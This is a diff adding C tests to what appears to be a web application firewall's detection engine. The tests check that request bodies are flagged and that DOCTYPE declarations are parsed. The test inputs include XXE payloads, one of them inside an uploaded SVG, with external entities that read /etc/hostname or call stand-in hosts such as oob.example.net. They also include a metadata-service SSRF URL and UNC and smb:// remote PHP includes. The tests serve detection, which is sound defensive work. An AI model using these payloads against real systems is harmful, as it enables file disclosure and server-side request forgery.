@@ -145,6 +145,62 @@ static void engine_tests(apr_pool_t *p)
                    LW_CAT_RCE, &res), "body:multipart:cmd");
     CHECK_STR(post(p, e, "text/xml", "<a><q>&lt;script&gt;alert(1)&lt;/script"
                    "&gt;</q></a>", LW_CAT_XSS, &res), "body:xml:/a/q");
+    /* XXE: the document type declaration is a field the rules read */
+    CHECK_STR(post(p, e, "application/xml", "<?xml version=\"1.0\"?>\n"
+                   "<!DOCTYPE r [\n  <!ENTITY e SYSTEM \"http://oob.example.net/"
+                   "x\">\n]>\n<r>&e;</r>", LW_CAT_LFI, &res),
+              "body:xml:!doctype");
+    CHECK_STR(post(p, e, "application/soap+xml", "<!DOCTYPE s [<!ENTITY % d "
+                   "SYSTEM \"https://oob.example.net/d.dtd\"> %d;]><s:Envelope "
+                   "xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body>"
+                   "<q>1</q></s:Body></s:Envelope>", LW_CAT_LFI, &res),
+              "body:xml:!doctype");
+    CHECK_STR(post(p, e, "text/xml", "<!DOCTYPE r SYSTEM \"http://203.0.113.5/"
+                   "e.dtd\"><r>1</r>", LW_CAT_LFI, &res), "body:xml:!doctype");
+    CHECK_STR(post(p, e, "text/xml", "<doc xmlns:xi=\"http://www.w3.org/2001/"
+                   "XInclude\"><xi:include parse=\"text\" href=\"/etc/hostname\"/>"
+                   "</doc>", LW_CAT_LFI, &res), "body:xml:/doc@xmlns:xi");
+    /* benign: public DTDs, no entity; SOAP and feeds without a DOCTYPE */
+    CHECK_STR(post(p, e, "application/xml", "<?xml version=\"1.0\" encoding="
+                   "\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST "
+                   "1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">"
+                   "\n<plist version=\"1.0\"><dict><key>Name</key><string>Ann"
+                   "</string></dict></plist>", -1, &res), "");
+    CHECK_STR(post(p, e, "application/xhtml+xml", "<!DOCTYPE html PUBLIC "
+                   "\"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/"
+                   "xhtml1/DTD/xhtml1-strict.dtd\"><html xmlns=\"http://www.w3.org"
+                   "/1999/xhtml\"><body><p>Tom &amp; Jerry</p></body></html>", -1,
+                   &res), "");
+    CHECK_STR(post(p, e, "text/xml", "<soap:Envelope xmlns:soap=\"http://"
+                   "schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice>"
+                   "<Item>Apples</Item><Callback>https://shop.example.com/hook"
+                   "</Callback></GetPrice></soap:Body></soap:Envelope>", -1, &res),
+              "");
+    /* an uploaded SVG's prolog; a benign one with a public DTD */
+    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
+                   "name=\"up\"; filename=\"logo.svg\"\r\nContent-Type: "
+                   "image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg "
+                   "[<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>"
+                   "\r\n--B--\r\n", LW_CAT_LFI, &res),
+              "body:multipart:up.!doctype");
+    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
+                   "name=\"up\"; filename=\"logo.svg\"\r\n\r\n<!DOCTYPE svg "
+                   "PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics"
+                   "/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/"
+                   "svg\"><circle r=\"4\"/></svg>\r\n--B--\r\n", -1, &res), "");
+    /* remote inclusion and SSRF in body values */
+    CHECK_STR(post(p, e, "application/json", "{\"avatar\": {\"url\": "
+                   "\"http://169.254.169.254/latest/meta-data/\"}}", LW_CAT_RFI,
+                   &res), "body:json:$.avatar.url");
+    CHECK_STR(post(p, e, form, "tpl=%5C%5Cevil.example.net%40SSL%5CDavWWWRoot"
+                   "%5Cx.php&go=1", LW_CAT_RFI, &res), "body:form:tpl");
+    CHECK_STR(post(p, e, "text/xml", "<cfg><feed>smb://203.0.113.5/share/x.php"
+                   "</feed></cfg>", LW_CAT_RFI, &res), "body:xml:/cfg/feed");
+    CHECK_STR(post(p, e, "application/json", "{\"webhook\": \"https://hooks."
+                   "example.com/services/T0/B0\", \"redirect_uri\": \"https://"
+                   "app.example.com/oauth/callback\", \"avatar\": \"https://"
+                   "cdn.example.com/avatars/u123.png?s=64\", \"feed\": \"https://"
+                   "my-blog.example/rss.xml\"}", -1, &res), "");
     /* a body field longer than max_inspect is read whole: no cut, no
      * evasion signal, and an attack padded past max_inspect is found */
     {
@@ -328,6 +384,29 @@ int main(void)
               "/s:Envelope/s:Body/login/user|user|bob' or 1=1\n"
               "/s:Envelope/s:Body/login/pw|pw|<b>x\n");
     CHECK_STR(split(p, "text/xml", "<a>1 union sel", NULL), "/a|a|1 union sel\n");
+    /* the document type declaration, internal subset and all, once; the
+     * elements after it as before */
+    CHECK_STR(split(p, "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!-- ]> "
+                    "--><!ENTITY a \"x>y]\"><!ENTITY % b SYSTEM 'u'>%b;]><r>&a;"
+                    "</r><!DOCTYPE s [<!ENTITY c SYSTEM \"v\">]>", NULL),
+              "!doctype|-|<!DOCTYPE r [<!-- ]> --><!ENTITY a \"x>y]\"><!ENTITY % "
+              "b SYSTEM 'u'>%b;]>\n/|-| -->\n/|-|y]\">\n/|-|%b;]>\n/r|r|&a;\n"
+              "/|-|]>\n");
+    /* a quote or '[' left open: the declaration runs to the end, the
+     * elements after it are still fields */
+    CHECK_STR(split(p, "text/xml", "<!doctype r [<!ENTITY a 'x><r>1</r>", NULL),
+              "!doctype|-|<!doctype r [<!ENTITY a 'x><r>1</r>\n/r|r|1\n");
+    CHECK_STR(split(p, "text/xml", "<!DOCTYPE", NULL), "!doctype|-|<!DOCTYPE\n");
+    /* multipart: an XML file's prolog, not an HTML or binary file's body */
+    CHECK_STR(split(p, "multipart/form-data; boundary=b",
+                    "--b\r\nContent-Disposition: form-data; name=\"f\"; "
+                    "filename=\"a.svg\"\r\n\r\n\xef\xbb\xbf <?xml version=\"1.0\"?>"
+                    "<!-- c --><!DOCTYPE svg [<!ENTITY x \"y\">]><svg/>\r\n"
+                    "--b\r\nContent-Disposition: form-data; name=\"g\"; "
+                    "filename=\"b.html\"\r\n\r\n<html><!DOCTYPE x [<!ENTITY y "
+                    "SYSTEM \"z\">]>\r\n--b--\r\n", NULL),
+              "f.filename|f|a.svg\nf.!doctype|-|<!DOCTYPE svg [<!ENTITY x "
+              "\"y\">]>\ng.filename|g|b.html\n");
     engine_tests(p);
     LW_TEST_END();
 }
